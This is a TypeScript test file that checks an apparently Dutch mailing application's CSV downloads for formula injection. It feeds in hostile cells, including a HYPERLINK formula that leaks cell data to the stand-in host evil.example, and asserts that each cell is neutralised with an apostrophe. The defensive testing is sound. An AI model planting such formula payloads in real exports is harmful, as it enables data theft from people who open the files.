import { parse } from 'csv-parse/sync';
import { sql } from 'drizzle-orm';
import { beforeAll, describe, expect, it } from 'vitest';
import { CSV_DELIMITERS, type CsvFormat, csvDownloadUrl } from '../common/csv-download';
import { recordAudit } from './features/audit/audit';
import { allocate, makeCampaign, makeMailing } from './features/mailings/mailing.test-helpers';
import { setupTestApp } from './test/app';
import { csvBody } from './test/csv';
import { columnMapping, setupDataset, uploadFile, waitForTask } from './test/imports';

// Every CSV the product writes, walked from the route table (DESIGN §7): partner cells that a
// spreadsheet would run as formulas arrive as text in each download and in both variants; plain
// numbers of number columns stay numbers, with a decimal comma in the Excel file.

const t = setupTestApp({ startWorker: true });

const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"klik")';
/** A cell Excel or LibreOffice would take for a formula (OWASP's CSV injection). */
const FORMULA = /^[=+\-@\t\r]/;
/** The columns whose plain numbers stay numbers: the export columns of type number, regel, Rijen and a statement's amounts. */
const NUMBER_COLUMNS = new Set([
  'bedrag',
  'getal',
  'regel',
  'Rijen',
  'Btw-percentage',
  'Adressen',
  'Commissie per adres',
  'Bedrag',
]);

/** A CSV download route's URL pattern and the URL of its download made here. */
let downloads: Record<string, string>;

beforeAll(async () => {
  // Hostile cells through the real input path: a partner file uploaded and imported (a header
  // cell, values, an encrypted value, an e-mail that is skipped), export columns and test persons.
  const s = await setupDataset(t, [
    columnMapping('email', 'email'),
    columnMapping('naam', 'voornaam'),
    columnMapping('tussen', 'tussenvoegsel'),
    columnMapping('bedrag', 'bedrag'),
    columnMapping('code', 'code', { encrypted: true }),
    columnMapping('getal', 'getal', { encrypted: true }),
  ]);
  const file = [
    'email,naam,tussen,bedrag,code,getal,@kop',
    `a@x.nl,"${HYPERLINK.replaceAll('"', '""')}",+1+1,-12,=1+1,-3,@SUM(1+1)`,
    'b@x.nl,"\tTab","\rCR",1.5,-2+3,1.5,-1+1',
    `"${HYPERLINK.replaceAll('"', '""')}",x,,,,,`,
    '+31@x,y,,,,,',
  ].join('\n');
  const res = await uploadFile(t, t.cookie, s, file);
  expect(res.statusCode, res.body).toBe(200);
  const task = await waitForTask(t, t.cookie, res.json().task._id);
  expect(task.state, task.error).toBe('done');
  expect(task.result).toMatchObject({ saved: 2, skipped: 2 });
  for (const [column, type] of [
    ['voornaam', 'string'],
    ['tussenvoegsel', 'string'],
    ['bedrag', 'number'],
    ['code', 'string'],
    ['getal', 'number'],
    ['=kolom', 'string'],
  ]) {
    const made = await t.api('POST', '/api/export/columns', { column, type });
    expect(made.statusCode, made.body).toBe(200);
  }
  const person = { firstName: '=1+1', preposition: '', lastName: 'Test', email: 'test@x.nl' };
  const tp = await t.api('POST', `/api/datasets/${s.partnerId}/${s.datasetId}/testpersons`, person);
  expect(tp.statusCode, tp.body).toBe(200);
  const campaign = await makeCampaign(t, t.cookie);
  const m = await makeMailing(t, t.cookie, campaign);
  const ids = await t.db.execute<{ id: string }>(
    sql`SELECT id FROM addresses WHERE email IN ('a@x.nl', 'b@x.nl') ORDER BY email`,
  );
  const selection = await allocate(
    t,
    m._id,
    ids.rows.map((r) => Number(r.id)),
    { datasetId: s.datasetId },
  );
  const final = await t.api('PUT', `/api/campaigns/${campaign}/mailings/${m._id}`, {
    name: 'x',
    state: 'final',
  });
  expect(final.statusCode, final.body).toBe(200);
  const mailing = `/api/campaigns/${campaign}/mailings/${m._id}`;
  // The partner report counts an Aangeboden mailing; its partner's name is hostile.
  const sent = await makeMailing(t, t.cookie, campaign, { plannedSend: '2021-06-01T10:00:00Z' });
  await allocate(
    t,
    sent._id,
    ids.rows.map((r) => Number(r.id)),
    { datasetId: s.datasetId },
  );
  await t.db.execute(sql`UPDATE mailings SET state = 'offered' WHERE id = ${sent._id}`);
  await t.db.execute(sql`UPDATE partners SET name = ${HYPERLINK} WHERE id = ${s.partnerId}`);
  // A partner statement of that month, issued (the hostile name frozen in it); a commission added
  // afterwards makes the next month propose a correction, the draft statement CSV.
  const issued = await t.api('POST', '/api/statements', { month: '2021-06', partner: s.partnerId });
  expect(issued.statusCode, issued.body).toBe(200);
  await t.api('POST', `/api/datasets/${s.partnerId}/${s.datasetId}/commission`, {
    start: '2021-06-01',
    end: '2021-06-30',
    amount: 1.5,
  });
  // A failed login records the name as typed: a hostile one reaches the audit log's download.
  await recordAudit(t.db, { kind: 'login-failed', username: HYPERLINK, ip: '127.0.0.1', rows: 3 });
  downloads = {
    '/api/audit-log.csv': '/api/audit-log.csv',
    '/api/avg/lookup.csv': '/api/avg/lookup.csv?email=a@x.nl',
    '/api/datasets/:partnerId/:datasetId/csv': `/api/datasets/${s.partnerId}/${s.datasetId}/csv`,
    '/api/tasks/:id/skipped': `/api/tasks/${task._id}/skipped`,
    '/api/campaigns/:campaignId/mailings/:mailingId/csv': `${mailing}/csv`,
    '/api/campaigns/:campaignId/mailings/:mailingId/selections/:selectionId/csv': `${mailing}/selections/${selection}/csv`,
    '/api/campaigns/:campaignId/mailings/:mailingId/testcsv': `${mailing}/testcsv`,
    '/api/reports/partners.csv': '/api/reports/partners.csv?from=2021-01&to=2021-12',
    '/api/statements/issued/:id/csv': `/api/statements/issued/${issued.json().id}/csv`,
    '/api/statements/proposed/csv': `/api/statements/proposed/csv?month=2021-07&partner=${s.partnerId}`,
  };
});

/** A download in `format` as rows of cells (header first), read past its byte order mark. */
async function download(url: string, format: CsvFormat): Promise<string[][]> {
  const res = await t.api('GET', csvDownloadUrl(url, format));
  expect(res.statusCode, `${url} ${res.body}`).toBe(200);
  expect(res.headers['content-type']).toContain('text/csv');
  return parse(csvBody(res), { delimiter: CSV_DELIMITERS[format] }) as string[][];
}

/** The cells of `rows` by column name, one row of the e-mail `email`. */
function rowOf(rows: string[][], email: string): Record<string, string> {
  const row = rows.find((r) => r[0] === email);
  expect(row, email).toBeDefined();
  return Object.fromEntries(rows[0].map((name, i) => [name, row?.[i] ?? '']));
}

describe('every CSV download', () => {
  it('is a route of the route table this test knows (a new CSV route must be walked here)', () => {
    const routes = t.app.routeTable.filter((r) => r.isCsvDownload && r.method === 'GET').map((r) => r.url);
    expect(routes.sort()).toEqual(Object.keys(downloads).sort());
  });

  it('writes no cell a spreadsheet would run, in both variants; plain numbers of number columns stay numbers', async () => {
    for (const route of t.app.routeTable.filter((r) => r.isCsvDownload && r.method === 'GET')) {
      for (const format of ['csv', 'excel'] as const) {
        const where = `${route.url} ${format}`;
        const rows = await download(downloads[route.url], format);
        const header = rows[0];
        let neutralised = 0;
        for (const row of rows) {
          row.forEach((cell, i) => {
            if (cell.startsWith("'")) neutralised++;
            if (!FORMULA.test(cell)) return;
            // Only a plain number of a number column may start with a minus.
            expect(
              NUMBER_COLUMNS.has(header[i]) && /^-[0-9]+([.,][0-9]+)?$/.test(cell),
              `${where}: ${cell}`,
            ).toBe(true);
          });
        }
        // The hostile cells reached this download (the test is not passing on an empty file).
        expect(neutralised, where).toBeGreaterThan(0);
      }
    }
  });

  it('keeps each hostile value whole behind its apostrophe, numbers as numbers (a decimal comma in the Excel file)', async () => {
    const mailing = downloads['/api/campaigns/:campaignId/mailings/:mailingId/csv'];
    for (const format of ['csv', 'excel'] as const) {
      const rows = await download(mailing, format);
      expect(rows[0]).toEqual(['email', "'=kolom", 'bedrag', 'code', 'getal', 'tussenvoegsel', 'voornaam']);
      expect(rowOf(rows, 'a@x.nl')).toMatchObject({
        voornaam: `'${HYPERLINK}`,
        tussenvoegsel: "'+1+1",
        bedrag: '-12',
        code: "'=1+1",
        getal: '-3',
      });
      const decimal = format === 'excel' ? '1,5' : '1.5';
      // The stored 1.5 and the encrypted (decrypted on the way out) 1.5 alike.
      expect(rowOf(rows, 'b@x.nl')).toMatchObject({
        bedrag: decimal,
        code: "'-2+3",
        getal: decimal,
      });
      const dataset = await download(downloads['/api/datasets/:partnerId/:datasetId/csv'], format);
      expect(dataset[0]).toEqual(['email', 'naam', 'tussen', 'bedrag', 'code', 'getal', "'@kop"]);
      // The dataset CSV has no number columns: the partner's -12 is text there too.
      expect(rowOf(dataset, 'a@x.nl')).toMatchObject({ bedrag: "'-12", "'@kop": "'@SUM(1+1)" });
      // The mapping trims attributes; the file's values keep their leading tab and CR.
      expect(rowOf(dataset, 'b@x.nl')).toMatchObject({ naam: "'\tTab", tussen: "'\rCR", "'@kop": "'-1+1" });
      const skipped = await download(downloads['/api/tasks/:id/skipped'], format);
      expect(skipped.map((r) => r[2])).toEqual(['email', `'${HYPERLINK}`, "'+31@x"]);
      const tests = await download(
        downloads['/api/campaigns/:campaignId/mailings/:mailingId/testcsv'],
        format,
      );
      expect(rowOf(tests, 'test@x.nl')).toMatchObject({ voornaam: "'=1+1", tussenvoegsel: '' });
    }
  });
});
